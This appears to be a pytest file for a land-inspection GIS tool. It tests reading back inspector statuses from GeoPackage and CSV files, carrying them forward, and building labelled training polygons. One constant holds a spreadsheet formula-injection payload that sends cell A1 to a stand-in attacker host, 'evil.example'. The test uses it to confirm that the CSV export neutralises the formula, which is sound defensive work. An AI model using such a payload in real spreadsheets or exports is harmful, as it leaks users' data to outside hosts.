"""Inspector feedback: statuses edited in the published GeoPackage (as QGIS does) or in a
CSV export are read back, kept on the same flag at the next publication, and become
labelled footprints for the next building model."""

from __future__ import annotations

import csv
import sqlite3
from datetime import date
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from shapely.geometry import box

from core.settings import Settings
from gis.feedback import (
    Decision,
    carry_feedback,
    collect_feedback,
    feedback_samples,
    read_feedback,
    write_feedback_csv,
)
from gis.flags import flag_new_buildings
from gis.publish import publish_geopackage

UTM = "EPSG:32630"
X0, Y0 = 560_000.0, 3_860_000.0
MARCH, SEPTEMBER = date(2025, 3, 10), date(2025, 9, 15)
NOTE_AR = "بناء جديد بدون رخصة، تم التحقق في الموقع"
INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
PARCELS = gpd.GeoDataFrame(
    {"parcel_id": ["BRK-1", "BRK-2", "T-1234/07"], "commune": ["Berkane", "Madagh", "Aklim"]},
    geometry=[box(X0 + 100 * i, Y0, X0 + 100 * (i + 1), Y0 + 100) for i in range(3)],
    crs=UTM,
)
NO_PERMITS = pd.DataFrame(
    columns=["permit_id", "parcel_id", "status", "issued", "expires", "permitted_footprint_m2"]
)


def _structures() -> gpd.GeoDataFrame:
    """A house on each parcel, and one over BRK-1 and BRK-2 (60 m² on BRK-2)."""
    houses = [box(X0 + 100 * i + 20, Y0 + 20, X0 + 100 * i + 30, Y0 + 30) for i in range(3)]
    spanning = box(X0 + 96, Y0 + 60, X0 + 106, Y0 + 70)
    frame = gpd.GeoDataFrame(
        {"building_id": ["b0", "b1", "b2", "b3"], "score": 1.0, "change": "new"},
        geometry=[*houses, spanning],
        crs=UTM,
    )
    return frame.assign(area_m2=frame.geometry.area)


def _flags(on: date = MARCH) -> gpd.GeoDataFrame:
    return flag_new_buildings(
        _structures(), PARCELS, NO_PERMITS, captured_on=on, settings=Settings()
    )


def _published(folder: Path, flags: gpd.GeoDataFrame) -> Path:
    return publish_geopackage(folder / "epoch.gpkg", {"flagged_parcels": flags})


def _geometry(blob: bytes | None) -> shapely.Geometry | None:
    """The geometry of a GeoPackage blob: header (8 bytes + envelope), then WKB."""
    if blob is None:
        return None
    envelope_bytes = (0, 32, 48, 48, 64)[(blob[3] >> 1) & 0b111]
    return shapely.from_wkb(bytes(blob[8 + envelope_bytes :]))


def _with_spatial_functions(db: sqlite3.Connection) -> sqlite3.Connection:
    """The ST_ functions GeoPackage's R-tree triggers call, which an editing client must
    provide (QGIS gets GDAL's; plain sqlite3 has none)."""
    db.create_function("ST_IsEmpty", 1, lambda b: None if b is None else _geometry(b).is_empty)
    for name, i in (("ST_MinX", 0), ("ST_MinY", 1), ("ST_MaxX", 2), ("ST_MaxY", 3)):
        db.create_function(name, 1, lambda b, i=i: _geometry(b).bounds[i])
    return db


def _edit_in_qgis(path: Path, flag_id: str, status: str, note: str = "") -> None:
    """What QGIS's attribute table does on save: an UPDATE of the layer's table in place."""
    with _with_spatial_functions(sqlite3.connect(path)) as db:
        db.execute(
            "UPDATE flagged_parcels SET status = ?, inspector_note = ? WHERE flag_id = ?",
            (status, note, flag_id),
        )


def test_each_published_flag_has_an_id_a_status_and_a_note_column(tmp_path):
    published = gpd.read_file(_published(tmp_path, _flags()), layer="flagged_parcels")
    assert published["flag_id"].tolist() == [
        "2025-03-10:no_permit:BRK-1",
        "2025-03-10:no_permit:BRK-2",
        "2025-03-10:no_permit:T-1234/07",
    ]
    assert set(published["status"]) == {"new"}


def test_statuses_edited_in_the_geopackage_are_read_back_with_arabic_notes(tmp_path):
    path = _published(tmp_path, _flags())
    _edit_in_qgis(path, "2025-03-10:no_permit:T-1234/07", "confirmed", NOTE_AR)
    _edit_in_qgis(path, "2025-03-10:no_permit:BRK-1", "False positive", "greenhouse")

    result = read_feedback(path)

    assert result.problems == ()
    decided = {d.flag_id: (d.status, d.note) for d in result.decisions}
    assert decided == {
        "2025-03-10:no_permit:BRK-1": ("false_positive", "greenhouse"),
        "2025-03-10:no_permit:BRK-2": ("new", ""),
        "2025-03-10:no_permit:T-1234/07": ("confirmed", NOTE_AR),
    }
    assert {d.line for d in result.decisions} == {1, 2, 3}  # GeoPackage feature ids


def test_a_rerun_keeps_what_the_inspector_decided(tmp_path):
    path = _published(tmp_path, _flags())
    _edit_in_qgis(path, "2025-03-10:no_permit:BRK-2", "confirmed", NOTE_AR)

    rerun = carry_feedback(_flags(), read_feedback(path).decisions).set_index("parcel_id")

    assert rerun["status"].to_dict() == {"BRK-1": "new", "BRK-2": "confirmed", "T-1234/07": "new"}
    assert rerun.loc["BRK-2", "inspector_note"] == NOTE_AR
    assert set(rerun["carried_from"]) == {""}


def test_at_a_later_date_confirmed_and_regularised_hold_but_false_positives_do_not():
    decisions = [
        Decision("2025-03-10:no_permit:BRK-1", "false_positive"),
        Decision("2025-03-10:no_permit:BRK-2", "regularised", "permit 2025/118 issued"),
        Decision("2025-03-10:no_permit:T-1234/07", "confirmed"),
    ]
    later = carry_feedback(_flags(on=SEPTEMBER), decisions).set_index("parcel_id")
    assert later["status"].to_dict() == {
        "BRK-1": "new",
        "BRK-2": "regularised",
        "T-1234/07": "confirmed",
    }
    assert later.loc["BRK-2", "carried_from"] == "2025-03-10:no_permit:BRK-2"
    assert later.loc["BRK-2", "inspector_note"] == "permit 2025/118 issued"
    # A decision of a later date does not reach back to an earlier flag.
    earlier = carry_feedback(_flags(on=date(2024, 9, 1)), decisions)
    assert set(earlier["status"]) == {"new"}


def test_the_csv_export_reads_back_with_arabic_and_a_formula_kept_inert(tmp_path):
    flags = _flags().assign(inspector_note=["", NOTE_AR, INJECTION])
    path = write_feedback_csv(flags, tmp_path / "flags.csv")

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for Arabic
    with path.open(encoding="utf-8-sig", newline="") as f:
        cells = list(csv.DictReader(f))
    assert cells[2]["note"] == "'" + INJECTION
    assert cells[1]["note"] == NOTE_AR
    assert cells[2]["parcel_id"] == "T-1234/07"
    result = read_feedback(path, flag_ids=flags["flag_id"])
    assert result.problems == ()
    assert [d.note for d in result.decisions] == ["", NOTE_AR, INJECTION]


def test_a_csv_edited_in_a_french_spreadsheet_is_read(tmp_path):
    path = tmp_path / "retour.csv"
    path.write_text(
        "flag_id;status;note\n"
        '2025-03-10:no_permit:BRK-1;confirmed;"villa R+1; vue le 12/03"\n'
        "2025-03-10:no_permit:BRK-2;regularized;\n",
        encoding="utf-8-sig",
    )
    decisions = read_feedback(path).decisions
    assert [(d.status, d.note, d.line) for d in decisions] == [
        ("confirmed", "villa R+1; vue le 12/03", 2),
        ("regularised", "", 3),
    ]


def test_judged_footprints_become_labelled_training_polygons():
    flags = _flags()
    decisions = [
        Decision("2025-03-10:no_permit:BRK-1", "false_positive"),
        Decision("2025-03-10:no_permit:BRK-2", "confirmed"),
        Decision("2025-03-10:no_permit:T-1234/07", "new"),
    ]
    samples = feedback_samples(decisions, flags, _structures()).set_index("flag_id")

    assert samples["label"].to_dict() == {
        "2025-03-10:no_permit:BRK-1": "not_building",
        "2025-03-10:no_permit:BRK-2": "building",
    }
    # BRK-2's footprint: its house and the part of the spanning structure on BRK-2.
    assert samples.geometry["2025-03-10:no_permit:BRK-2"].area == pytest.approx(100.0 + 60.0)
    assert samples.geometry["2025-03-10:no_permit:BRK-1"].area == pytest.approx(100.0 + 40.0)
    assert samples.crs == UTM


def test_samples_work_from_the_published_layers(tmp_path):
    structures = _structures().drop(columns="building_id")  # ids are then row positions
    flags = flag_new_buildings(
        structures, PARCELS, NO_PERMITS, captured_on=MARCH, settings=Settings()
    )
    path = publish_geopackage(
        tmp_path / "epoch.gpkg", {"new_buildings": structures, "flagged_parcels": flags}
    )
    _edit_in_qgis(path, "2025-03-10:no_permit:T-1234/07", "confirmed")

    samples = feedback_samples(
        read_feedback(path).decisions,
        gpd.read_file(path, layer="flagged_parcels"),
        gpd.read_file(path, layer="new_buildings"),
    )
    assert samples["label"].tolist() == ["building"]
    assert samples.geometry.iloc[0].equals(box(X0 + 220, Y0 + 20, X0 + 230, Y0 + 30))


def test_feedback_is_collected_from_several_files_the_later_one_winning(tmp_path):
    march = _published(tmp_path, _flags())
    _edit_in_qgis(march, "2025-03-10:no_permit:BRK-1", "confirmed", "seen")
    _edit_in_qgis(march, "2025-03-10:no_permit:BRK-2", "confirmed")
    csv_path = tmp_path / "retour.csv"
    csv_path.write_text("flag_id,status,note\n2025-03-10:no_permit:BRK-2,false_positive,tank\n")
    old = publish_geopackage(  # published before flags had ids: skipped
        tmp_path / "old.gpkg", {"flagged_parcels": _flags().drop(columns="flag_id")}
    )

    collected = collect_feedback([old, march, csv_path, tmp_path / "absent.csv"])

    assert {d.flag_id: (d.status, d.note) for d in collected.decisions if d.status != "new"} == {
        "2025-03-10:no_permit:BRK-1": ("confirmed", "seen"),
        "2025-03-10:no_permit:BRK-2": ("false_positive", "tank"),
    }
    assert collected.problems == ()
